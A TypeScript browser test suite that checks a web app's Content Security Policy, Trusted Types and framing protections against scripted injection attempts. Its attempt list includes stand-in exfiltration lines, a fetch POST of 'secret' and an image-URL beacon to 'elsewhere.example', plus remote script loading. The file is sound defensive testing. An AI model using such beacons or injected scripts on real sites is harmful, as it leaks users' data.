import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from './served.ts';
import { openOffline } from './worker.ts';

/** What a script that got into the page might try, and the rule that stops it. */
const attempts: { name: string; attempt: () => unknown; rule: string }[] = [
  {
    name: 'a style attribute',
    attempt: () => document.body.setAttribute('style', 'color: red'),
    rule: 'style-src',
  },
  {
    name: 'a style element',
    attempt: () => {
      const style = document.createElement('style');
      style.append('body { color: red }');
      document.head.append(style);
    },
    rule: 'style-src',
  },
  {
    name: 'a script as text',
    attempt: () => {
      const script = document.createElement('script');
      script.append('document.title = "taken"');
      document.head.append(script);
    },
    rule: 'script-src|require-trusted-types-for',
  },
  {
    name: 'a script from elsewhere',
    attempt: () => {
      const script = document.createElement('script');
      script.src = 'https://elsewhere.example/script.js';
      document.head.append(script);
    },
    rule: 'script-src|require-trusted-types-for',
  },
  {
    name: 'markup as text',
    attempt: () => {
      document.body.innerHTML = '<b>taken</b>';
    },
    rule: 'require-trusted-types-for',
  },
  {
    name: 'code as text',
    attempt: () => setTimeout('document.title = "taken"'),
    rule: 'script-src|require-trusted-types-for',
  },
  { name: 'a policy of its own', attempt: createPolicy, rule: 'trusted-types' },
  {
    name: 'sending data elsewhere',
    attempt: () => fetch('https://elsewhere.example/', { method: 'POST', body: 'secret' }),
    rule: 'connect-src',
  },
  {
    name: 'sending data elsewhere as the address of an image',
    attempt: () => {
      new Image().src = 'https://elsewhere.example/?secret';
    },
    rule: 'img-src',
  },
  {
    name: 'a frame',
    attempt: () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://elsewhere.example/';
      document.body.append(frame);
    },
    rule: 'frame-src|default-src',
  },
];

function createPolicy(): void {
  const { trustedTypes } = window as unknown as {
    trustedTypes: { createPolicy(name: string, rules: object): void };
  };
  trustedTypes.createPolicy('mine', {});
}

test('the page is locked: nothing inline, no code from text, no word to another origin', async ({
  page,
  served,
  watched,
}) => {
  await page.goto(served.url);
  const heading = page.getByRole('heading', { level: 1 });
  await expect(heading).toBeVisible();
  for (const { name, attempt, rule } of attempts) {
    await test.step(name, async () => {
      await page.evaluate(attempt).catch(() => {});
      await expect.poll(() => watched.violations.join('\n')).toMatch(new RegExp(`^(${rule})`, 'm'));
      expect(await page.title()).not.toBe('taken');
      await expect(heading).toBeVisible();
      for (const list of Object.values(watched)) list.length = 0;
    });
  }
});

test('a page of another origin cannot frame the app, before or after it is kept', async ({
  page,
  context,
  served,
  watched,
}) => {
  const stranger = createServer((_, response) => {
    response.setHeader('Content-Type', 'text/html').end(`<iframe src="${served.url}"></iframe>`);
  });
  await new Promise<void>((resolve) => stranger.listen(0, '127.0.0.1', resolve));
  const address = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}/`;
  const other = await context.newPage();
  const framed = async () => {
    await other.goto(address);
    return other.frames()[1]?.url();
  };
  await expect.poll(framed).toMatch(/^chrome-error:/);
  await openOffline(page, served.url);
  await expect.poll(framed).toMatch(/^chrome-error:/);
  stranger.close();
  stranger.closeAllConnections();
  for (const list of Object.values(watched)) list.length = 0;
});
